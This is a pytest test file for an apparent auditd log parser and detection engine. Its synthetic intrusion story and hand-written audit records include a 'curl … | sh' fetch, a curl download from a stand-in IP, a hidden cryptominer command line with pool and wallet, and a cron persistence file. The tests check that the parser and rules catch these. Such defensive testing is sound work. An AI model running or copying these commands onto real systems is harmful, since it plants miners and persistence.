"""Linux audit log source: the miner story in every layout auditd writes, records typed by
hand the way real hosts write them, hostile lines, and the rules running on audit-only evidence.

The story (``scenarios.audit_log.miner_story``): cron noise, an admin's key login and sudo, an
SSH brute force that gets root, ``curl … | sh``, a miner started from /tmp/.X11-unix/ with pool
and wallet, a line appended to the watched /etc/crontab, a backdoor account, a rival's account
deleted. Tests compare against the story's ``facts``, not against counts typed here.
"""

from __future__ import annotations

import datetime as dt
import json
import random
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from deminer.case import Case
from deminer.detect import iocs
from deminer.detect.engine import detect
from deminer.detect.rules import load_rules
from deminer.detect.sigma.run import sigma_findings
from deminer.scenarios.audit_log import WALLET, AuditLog, Session, miner_story
from deminer.scenarios.auth_log import FORMATS, AuthLog
from deminer.sources import SOURCES, auditd
from deminer.sources.ingest import ingest, pick_source

Row = dict[str, Any]
LAYOUTS: dict[str, dict[str, Any]] = {
    "raw": {},
    "enriched": {"enriched": True},
    "node": {"node": "web1"},
    "interleaved": {"interleave": True, "enriched": True},
    "ausearch": {"ausearch": True},
}
SERIAL_AT = "msg=audit("


def read(path: Path, host: str | None = None, batch_rows: int = 50_000) -> tuple[list[Row], list[Row]]:
    """(events with ``data`` parsed, errors) of one file."""
    events: list[Row] = []
    errors: list[Row] = []
    for table, rows in auditd.parse_file(path, path.name, host, batch_rows=batch_rows):
        assert isinstance(rows, list)
        if table == "events":
            events += [{**r, "data": json.loads(r["data"])} for r in rows]
        else:
            errors += rows
    return events, errors


def line_of(lines: list[str], serial: int) -> int:
    """1-based number of the first line of event ``serial``."""
    return next(i for i, ln in enumerate(lines, 1) if f":{serial}): " in ln)


@pytest.fixture(scope="module")
def story() -> AuditLog:
    return miner_story()


# -- the story, in every layout -----------------------------------------------------------------
@pytest.mark.parametrize("layout", sorted(LAYOUTS))
@pytest.mark.parametrize("gz", [False, True])
def test_every_layout_gives_the_story(tmp_path: Path, story: AuditLog, layout: str, gz: bool) -> None:
    path = story.write(tmp_path / ("audit.log.1.gz" if gz else "audit.log"), gz=gz, **LAYOUTS[layout])
    events, errors = read(path)
    assert errors == []
    assert Counter(e["event"] for e in events) == story.facts.events
    assert sorted((e["process"], e["command"]) for e in events if e["event"] == "process_start") == \
        sorted(story.facts.commands)
    parents = {e["command"]: e["data"].get("parent_process") for e in events if e["event"] == "process_start"}
    assert {c: parents[c] for c in story.facts.parents} == story.facts.parents
    assert Counter(e["src_ip"] for e in events if e["event"] == "logon_failure") == story.facts.failures
    assert [(e["data"]["key"], e["data"]["path"]) for e in events if e["event"] == "file_watch"] == \
        story.facts.watches
    named = {"logon_success", "user_added", "group_member_added", "password_changed", "user_deleted"}
    assert sorted((e["event"], e["user"]) for e in events if e["event"] in named) == \
        sorted(story.facts.accounts)
    assert {e["host"] for e in events} == {"web1" if layout == "node" else None}
    assert {e["program"] for e in events} == {"auditd"}


def test_aarch64_numbers_its_syscalls_its_own_way(tmp_path: Path) -> None:
    log = miner_story(arch="aarch64")
    events, errors = read(log.write(tmp_path / "audit.log"))
    assert errors == [] and Counter(e["event"] for e in events) == log.facts.events
    assert {e["data"]["arch"] for e in events if e["event"] == "process_start"} == {"aarch64"}


def test_miner_launch_row_carries_its_provenance(tmp_path: Path, story: AuditLog) -> None:
    lines = story.lines(enriched=True)
    path = story.write(tmp_path / "audit.log", enriched=True)
    events, _ = read(path, host="WEB1")
    miner = next(e for e in events if e["event"] == "process_start" and "pool.minexmr.com" in e["command"])
    launch = next(ev for ev in story.events if "pool.minexmr.com" not in ev.records[0].body
                  and ev.records[0].type == "SYSCALL" and "kswapd0" in ev.records[0].body
                  and "syscall=59" in ev.records[0].body)
    sh = next(e for e in events if e["event"] == "process_start" and e["command"] == "sh")
    assert miner["host"] == "web1"                       # the user's --host, as a host id
    assert miner["ts"] == launch.ts.replace(microsecond=launch.ts.microsecond // 1000 * 1000)
    assert miner["source_line"] == line_of(lines, launch.serial)
    assert miner["record_id"] == launch.serial
    assert miner["raw"].startswith(lines[miner["source_line"] - 1][:200])
    assert miner["process"] == "/tmp/.X11-unix/kswapd0" and miner["user"] == "root"
    assert miner["command"] == ("/tmp/.X11-unix/kswapd0 -o pool.minexmr.com:4444 -u " + WALLET
                                + " -p x -k --donate-level 1 -B")
    data = miner["data"]
    assert data["parent_pid"] == sh["pid"]
    assert (data["parent_process"], data["parent_command"]) == ("/usr/bin/bash", "sh")
    assert (data["cwd"], data["key"], data["tty"], data["auid"], data["auid_user"]) == \
        ("/tmp/.X11-unix", "exec", "pts1", 0, "root")
    seconds = int((launch.ts - dt.datetime(1970, 1, 1)).total_seconds())
    assert data["audit_id"] == f"{seconds}.{launch.ts.microsecond // 1000:03d}:{launch.serial}"
    assert data["ses"] == sh["data"]["ses"] and data["syscall"] == "execve" and data["type"] == "SYSCALL"


def test_raw_format_names_users_by_uid_and_logins_by_pam(tmp_path: Path, story: AuditLog) -> None:
    events, _ = read(story.write(tmp_path / "audit.log"))
    starts = [e for e in events if e["event"] == "process_start"]
    systemctl = next(e for e in starts if e["command"].startswith("systemctl"))
    assert systemctl["user"] == "0" and systemctl["data"]["auid"] == 1000
    assert "auid_user" not in systemctl["data"]
    # sshd's USER_LOGIN says id=1000: the name comes from the same sshd's PAM records
    logins = {(e["user"], e["src_ip"]) for e in events if e["event"] == "logon_success"}
    assert logins == {("alice", "192.0.2.10"), ("root", "203.0.113.7")}
    sudo = next(e for e in events if e["event"] == "sudo")
    assert (sudo["user"], sudo["command"], sudo["status"]) == ("1000", "systemctl restart nginx", "allowed")
    invalid = [e for e in events if e["event"] == "logon_failure" and e["status"] == "invalid_user"]
    assert invalid and all(e["user"] is None for e in invalid)


def test_long_argument_split_over_records_is_put_back_together(tmp_path: Path, story: AuditLog) -> None:
    events, _ = read(story.write(tmp_path / "audit.log"))
    stage = next(e for e in events if e["event"] == "process_start" and e["command"].startswith("bash -c e"))
    expected = next(c for _, c in story.facts.commands if c.startswith("bash -c echo"))
    assert len(expected) > 12_000 and stage["command"] == expected


# -- records typed by hand, the way hosts write them ----------------------------------------------
def _hex(text: str) -> str:
    return text.encode().hex().upper()


SCRIPT = "cd /tmp; " + "x" * 7990
HAND = [
    # redis-server (aarch64) spawns sh -c with one argument long enough to be split in pieces
    "type=SYSCALL msg=audit(1712307600.100:500): arch=c00000b7 syscall=221 success=yes exit=0 a0=1 a1=2 a2=3 "
    "a3=0 items=1 ppid=1 pid=900 auid=4294967295 uid=996 gid=994 euid=996 suid=996 fsuid=996 egid=994 "
    'sgid=994 fsgid=994 tty=(none) ses=4294967295 comm="redis-server" exe="/usr/bin/redis-server" key=(null)',
    'type=EXECVE msg=audit(1712307600.100:500): argc=2 a0="/usr/bin/redis-server" a1="127.0.0.1:6379"',
    "type=EOE msg=audit(1712307600.100:500): ",
    "type=SYSCALL msg=audit(1712307600.200:501): arch=c00000b7 syscall=221 success=yes exit=0 a0=1 a1=2 a2=3 "
    "a3=0 items=1 ppid=900 pid=901 auid=4294967295 uid=996 gid=994 euid=996 suid=996 fsuid=996 egid=994 "
    'sgid=994 fsgid=994 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key=(null)',
    f'type=EXECVE msg=audit(1712307600.200:501): argc=3 a0="sh" a1="-c" a2_len={len(SCRIPT)} '
    f"a2[0]={_hex(SCRIPT[:4000])}",
    f"type=EXECVE msg=audit(1712307600.200:501): a2[1]={_hex(SCRIPT[4000:])}",
    f"type=CWD msg=audit(1712307600.200:501): cwd={_hex('/var/lib/redis data')}",
    "type=PROCTITLE msg=audit(1712307600.200:501): proctitle="
    + _hex(chr(0).join(["sh", "-c", SCRIPT]))[:256],
    "type=EOE msg=audit(1712307600.200:501): ",
    # vi creates a file in a watched folder: a relative, hex-written name; two keys in one
    "type=SYSCALL msg=audit(1712307601.000:502): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c "
    "a1=5581 a2=241 a3=1b6 items=2 ppid=1200 pid=1201 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 "
    f'sgid=0 fsgid=0 tty=pts0 ses=2 comm="vi" exe="/usr/bin/vim" key={_hex("cron" + chr(1) + "persist")}',
    'type=CWD msg=audit(1712307601.000:502): cwd="/etc/cron.d"',
    'type=PATH msg=audit(1712307601.000:502): item=0 name="/etc/cron.d/" inode=1 dev=fd:00 mode=040755 '
    "ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
    f"type=PATH msg=audit(1712307601.000:502): item=1 name={_hex('.sys updater')} inode=2 dev=fd:00 "
    "mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
    f"type=PROCTITLE msg=audit(1712307601.000:502): proctitle={_hex('vi' + chr(0) + '.sys updater')}",
    "type=EOE msg=audit(1712307601.000:502): ",
    # a non-blocking IPv6 connect, no rule key
    "type=SYSCALL msg=audit(1712307602.000:503): arch=c000003e syscall=42 success=no exit=-115 a0=5 a1=7ffd "
    "a2=1c a3=0 items=0 ppid=1 pid=1300 auid=4294967295 uid=997 gid=997 euid=997 suid=997 fsuid=997 "
    'egid=997 sgid=997 fsgid=997 tty=(none) ses=4294967295 comm="kworker" exe="/dev/shm/kworker" key=(null)',
    "type=SOCKADDR msg=audit(1712307602.000:503): saddr=0A00115C0000000020010DB8000000000000000000000001"
    "00000000",
    "type=EOE msg=audit(1712307602.000:503): ",
    # a keyed syscall that names no file, and an exec refused by noexec (keyed: a file_watch)
    "type=SYSCALL msg=audit(1712307603.000:504): arch=c000003e syscall=175 success=yes exit=0 a0=1 a1=2 a2=3 "
    'a3=0 items=0 ppid=1 pid=1400 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 '
    'ses=2 comm="insmod" exe="/usr/bin/kmod" key="modules"',
    "type=EOE msg=audit(1712307603.000:504): ",
    "type=SYSCALL msg=audit(1712307603.500:505): arch=c000003e syscall=59 success=no exit=-13 a0=1 a1=2 a2=3 "
    'a3=0 items=1 ppid=1 pid=1401 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 '
    'ses=2 comm="bash" exe="/usr/bin/bash" key="exec"',
    'type=PATH msg=audit(1712307603.500:505): item=0 name="/dev/shm/x" inode=9 dev=00:19 mode=0100755 '
    "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
    "type=EOE msg=audit(1712307603.500:505): ",
    # user-space messages: shadow-utils before 4.6, su, a hex account name, PAM's unknown user
    "type=ADD_USER msg=audit(1712307604.000:506): pid=1500 uid=0 auid=1000 ses=2 msg='op=adding user "
    "id=1002 exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'",
    "type=USER_START msg=audit(1712307604.100:507): pid=1600 uid=1000 auid=1000 ses=2 "
    "msg='op=PAM:session_open grantors=pam_keyinit,pam_limits,pam_unix acct=\"root\" exe=\"/usr/bin/su\" "
    "hostname=? addr=? terminal=pts/0 res=success'",
    f"type=USER_LOGIN msg=audit(1712307604.200:508): pid=1700 uid=0 auid=4294967295 ses=4294967295 "
    f"msg='op=login acct={_hex('oracle admin')} exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.23 "
    "terminal=sshd res=failed'",
    "type=USER_AUTH msg=audit(1712307604.300:509): pid=1700 uid=0 auid=4294967295 ses=4294967295 "
    "msg='op=PAM:authentication grantors=? acct=\"?\" exe=\"/usr/sbin/sshd\" hostname=198.51.100.23 "
    "addr=198.51.100.23 terminal=ssh res=failed'",
    # an old kernel's event without EOE, last in the file
    "type=SYSCALL msg=audit(1712307605.000:510): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 "
    "a3=0 items=1 ppid=901 pid=1800 auid=4294967295 uid=996 gid=994 euid=996 suid=996 fsuid=996 egid=994 "
    'sgid=994 fsgid=994 tty=(none) ses=4294967295 comm="curl" exe="/usr/bin/curl" key=(null)',
    'type=EXECVE msg=audit(1712307605.000:510): argc=2 a0="curl" a1="http://198.51.100.9/x"',
]


def test_records_hosts_write(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    path.write_text("\n".join(HAND) + "\n")
    events, errors = read(path)
    assert errors == []
    by = {e["record_id"]: e for e in events}
    assert sorted(by) == [500, 501, 502, 503, 504, 505, 506, 507, 508, 509, 510]
    sh = by[501]
    assert (sh["event"], sh["process"], sh["user"], sh["pid"]) == \
        ("process_start", "/usr/bin/dash", "996", 901)
    assert sh["command"] == "sh -c " + SCRIPT and sh["data"]["cwd"] == "/var/lib/redis data"
    assert sh["data"]["parent_process"] == "/usr/bin/redis-server"
    assert sh["data"]["parent_command"] == "/usr/bin/redis-server 127.0.0.1:6379"
    assert "auid" not in sh["data"] and "ses" not in sh["data"] and "tty" not in sh["data"]
    assert sh["ts"] == dt.datetime(2024, 4, 5, 9, 0, 0, 200_000) and sh["source_line"] == 4
    watch = by[502]
    assert (watch["event"], watch["status"], watch["command"]) == ("file_watch", "success", "vi .sys updater")
    assert watch["data"]["key"] == "cron,persist" and watch["data"]["path"] == "/etc/cron.d/.sys updater"
    assert watch["data"]["paths"] == [{"name": "/etc/cron.d/", "nametype": "PARENT"},
                                      {"name": "/etc/cron.d/.sys updater", "nametype": "CREATE"}]
    conn = by[503]
    assert (conn["event"], conn["dst_ip"], conn["dst_port"], conn["status"], conn["process"]) == \
        ("network_connection", "2001:db8::1", 4444, "in_progress", "/dev/shm/kworker")
    def facts(serial: int, *names: str) -> tuple[Any, ...]:
        row = by[serial]
        return tuple(row[n] if n in row else row["data"].get(n) for n in names)

    assert facts(504, "event", "syscall", "key") == ("audit_syscall", "175", "modules")
    assert facts(505, "event", "status", "path") == ("file_watch", "failed", "/dev/shm/x")
    assert facts(506, "event", "user", "op") == ("user_added", "1002", "adding user")
    assert facts(507, "event", "user", "by") == ("su", "root", "1000")
    assert facts(508, "event", "user", "src_ip") == ("logon_failure", "oracle admin", "198.51.100.23")
    assert facts(509, "event", "user", "status") == ("pam_auth_failure", None, "pam_failure")
    assert facts(510, "command", "parent_process") == ("curl http://198.51.100.9/x", "/usr/bin/dash")


# -- grouping stays bounded ---------------------------------------------------------------------
def test_events_left_open_are_read_as_they_are_and_stragglers_counted(tmp_path: Path) -> None:
    """Every SYSCALL first, every EXECVE later: the oldest events are read before their
    EXECVE arrives (at most MAX_OPEN wait), and those EXECVEs are counted, not lost silently."""
    n = auditd.MAX_OPEN + 40
    head = [HAND[3].replace(":501)", f":{9000 + i})") for i in range(n)]
    tail = [f'type=EXECVE msg=audit(1712307600.200:{9000 + i}): argc=1 a0="job{i}"' for i in range(n)]
    path = tmp_path / "audit.log"
    path.write_text("\n".join(head + tail) + "\n")
    events, errors = read(path)
    assert len(events) == n
    assert sum(1 for e in events if e["command"]) == auditd.MAX_OPEN
    assert len(errors) == 1 and errors[0]["message"].startswith("audit log: 40 unreadable line(s)")
    straggler = f"line {n + 1}: record of event 1712307600.200:9000 after that event was read"
    assert straggler in errors[0]["message"]


def test_batches_stay_bounded(tmp_path: Path, story: AuditLog) -> None:
    path = story.write(tmp_path / "audit.log")
    batches = auditd.parse_file(path, "audit.log", batch_rows=7)
    sizes = [len(rows) for table, rows in batches if table == "events"]
    assert max(sizes) <= 7 and sum(sizes) == sum(story.facts.events.values())


# -- bad input --------------------------------------------------------------------------------------
def test_bad_lines_are_counted_in_one_error_and_the_rest_is_read(tmp_path: Path, story: AuditLog) -> None:
    lines = [ln.encode() for ln in story.lines()]
    junk = [
        b"\x00\x00\x01\x02 a crash left zeros",
        b"\xff\xfe not an audit line",
        b"type=USER_LOGIN msg=audit(1712307000.000:1): pid=1 uid=0 auid=4294967295 ses=4294967295 "
        b"msg='op=login acct=\"ro",                                      # cut short: no row
        b"type=USER_CMD msg=audit(1712307000.500:2): pid=2 uid=0 auid=0 ses=1 msg='cwd=\"/\" cmd=6C7 "
        b"exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",           # odd hex: kept as written
        b"type=SYSCALL msg=audit(04/05/2024 09:00:00.100:3) : arch=x86_64 syscall=execve success=yes",
    ]
    spots = sorted(random.Random(3).sample(range(len(lines)), len(junk)))
    for offset, (spot, bad) in enumerate(zip(spots, junk, strict=True)):
        lines.insert(spot + offset, bad)
    path = tmp_path / "audit.log"
    path.write_bytes(b"\n".join(lines) + b"\n")
    events, errors = read(path)
    story_events = Counter(e["event"] for e in events if e["record_id"] not in (1, 2))
    assert story_events == story.facts.events
    assert [e["command"] for e in events if e["record_id"] == 2] == ["6C7"]
    assert len(errors) == 1
    message = errors[0]["message"]
    assert message.startswith("audit log: 5 unreadable line(s) skipped, first: ")
    first, second, third = (lines.index(j) + 1 for j in junk[:3])
    assert message.endswith(f"line {first}: binary data; line {second}: not an audit record: "
                            f"'\\\\xff\\\\xfe not an audit line'; line {third}: record cut short "
                            "(a quoted value never ends)")


def test_interpreted_ausearch_output_gets_a_clear_reason(tmp_path: Path) -> None:
    path = tmp_path / "ausearch.txt"
    path.write_text("----\ntype=PROCTITLE msg=audit(04/05/2024 09:00:00.100:3) : proctitle=sh\n")
    events, errors = read(path)
    assert events == [] and "ausearch -i, local time" in errors[0]["message"]


def test_binary_file_named_audit_log_is_refused_clearly(tmp_path: Path) -> None:
    path = tmp_path / "audit.log"
    path.write_bytes(bytes(range(256)) * 64)
    with Case(None) as case:
        summary = ingest(case, [path])
    assert summary.errors == [f"{path}: auditd: binary content, not an audit log"]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(junk=st.lists(st.binary(max_size=300), max_size=12))
def test_junk_lines_never_break_the_reader(tmp_path: Path, junk: list[bytes]) -> None:
    good = "\n".join(HAND[3:9]).encode()
    path = tmp_path / "audit.log"
    path.write_bytes(good + b"\n" + b"\n".join(j.replace(b"\n", b" ") for j in junk) + b"\n")
    events, _ = read(path)
    assert any(e["record_id"] == 501 and e["command"] == "sh -c " + SCRIPT for e in events)


_ARG = st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), min_size=1, max_size=40)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(argv=st.lists(_ARG, min_size=1, max_size=6), enriched=st.booleans())
def test_any_argv_comes_back_as_run(tmp_path: Path, argv: list[str], enriched: bool) -> None:
    log = AuditLog()
    log.run(Session("root", 0, 3, "pts0", 1), 1, argv, "/usr/bin/x")
    events, errors = read(log.write(tmp_path / "audit.log", enriched=enriched))
    assert errors == [] and [e["command"] for e in events] == [" ".join(argv)]


# -- sniffing -----------------------------------------------------------------------------------
@pytest.mark.parametrize("layout", sorted(LAYOUTS))
def test_sniff_claims_audit_logs(tmp_path: Path, story: AuditLog, layout: str) -> None:
    path = story.write(tmp_path / "capture.txt", gz=layout == "node", **LAYOUTS[layout])
    source = pick_source(path, path.read_bytes()[:65536], SOURCES)
    assert source is not None and source.name == "auditd"


@pytest.mark.parametrize("fmt", FORMATS)
def test_sniff_leaves_auth_logs_to_auth_log(tmp_path: Path, fmt: str) -> None:
    log = AuthLog(host="web1")
    log.brute_force("203.0.113.7", ["root"], attempts=12, success_user="root")
    path = log.write(tmp_path / "secure", fmt=fmt)
    head = path.read_bytes()[:65536]
    assert not auditd.sniff(path, head)
    source = pick_source(path, head, SOURCES)
    assert source is not None and source.name == "auth_log"


def test_sniff_leaves_audit_lines_forwarded_to_syslog_alone(tmp_path: Path) -> None:
    path = tmp_path / "messages"
    path.write_text("".join(f"Apr  5 09:00:0{i} web1 audispd: node=web1 type=SYSCALL "
                            f"msg=audit(1712307600.{i}00:{500 + i}): arch=c000003e syscall=59 success=yes\n"
                            for i in range(5)))
    assert not auditd.sniff(path, path.read_bytes())
    assert not auditd.sniff(tmp_path / "empty", b"")


# -- the rules on audit-only evidence ---------------------------------------------------------------
def _case_with(paths: list[Path]) -> Case:
    case = Case(None)
    summary = ingest(case, paths, host="web1")
    assert summary.errors == []
    iocs.load_shipped(case)
    return case


def test_miner_rules_fire_on_audit_only_evidence(tmp_path: Path, story: AuditLog) -> None:
    path = story.write(tmp_path / "audit.log", enriched=True)
    lines = story.lines(enriched=True)
    launch = next(ev for ev in story.events if ev.records[0].type == "SYSCALL" and "syscall=59" in
                  ev.records[0].body and 'exe="/tmp/.X11-unix/kswapd0"' in ev.records[0].body)
    entity = f"{path}:{line_of(lines, launch.serial)}"
    rules = [r for r in load_rules() if r.id in ("impact.xmrig_flags", "impact.mining_pool_reference")]
    with _case_with([path]) as case:
        found = detect(case, rules)
        sigma, _ = sigma_findings(case)
    assert {(f.rule, f.entity, f.host) for f in found} == {
        ("impact.xmrig_flags", entity, "web1"), ("impact.mining_pool_reference", entity, "web1")}
    pool = next(f for f in found if f.rule == "impact.mining_pool_reference")
    assert pool.evidence["wallet"] == WALLET and pool.severity == "high"
    assert [f.host for f in sigma if "XMRig" in f.title] == ["web1"]


def test_sigma_auditd_rules_read_audit_fields(tmp_path: Path, story: AuditLog) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "lnx_auditd_crontab_watch.yml").write_text(
        "title: Crontab Written (auditd watch)\nid: 0b5c3f8e-1d7a-4c8e-9a51-3f1c2d4e5a6b\nstatus: test\n"
        "logsource:\n  product: linux\n  service: auditd\n"
        "detection:\n  selection:\n    key: cron\n    path|startswith: /etc/cron\n  condition: selection\n"
        "level: medium\n")
    with _case_with([story.write(tmp_path / "audit.log")]) as case:
        found, problems = sigma_findings(case, [rules], pack=False)
    assert problems == []
    assert [(f.host, f.evidence.get("exe")) for f in found] == [("web1", "/usr/bin/bash")]


def test_ssh_rules_count_each_attempt_once_with_both_logs(tmp_path: Path, story: AuditLog) -> None:
    """With auth.log gone the SSH rules read sshd's audit logons (18 failure records for 16
    guesses: the invalid-user notices count); with both logs, auth.log's attempts only, so the
    audit log does not inflate them (the ``ssh_logons`` view)."""
    auth = AuthLog(host="web1", start=story.events[0].ts)
    auth.brute_force("203.0.113.7", ["root", "admin", "oracle"], attempts=16, success_user="root")
    ssh_rules = [r for r in load_rules()
                 if r.id.startswith(("credential_access.ssh_", "initial_access.ssh_"))]
    audit_path = story.write(tmp_path / "audit.log")
    with _case_with([audit_path]) as case:
        alone = {f.rule: f for f in detect(case, ssh_rules)}
    assert alone["credential_access.ssh_brute_force"].evidence["failures"] == 18
    assert alone["initial_access.ssh_brute_force_success"].evidence["source"] == str(audit_path)
    with _case_with([audit_path, auth.write(tmp_path / "secure")]) as case:
        found = {f.rule: f for f in detect(case, ssh_rules)}
    guesses = auth.facts.failures["203.0.113.7"]
    assert found["initial_access.ssh_brute_force_success"].evidence["failures"] == guesses
    assert found["credential_access.ssh_brute_force"].evidence["failures"] == guesses
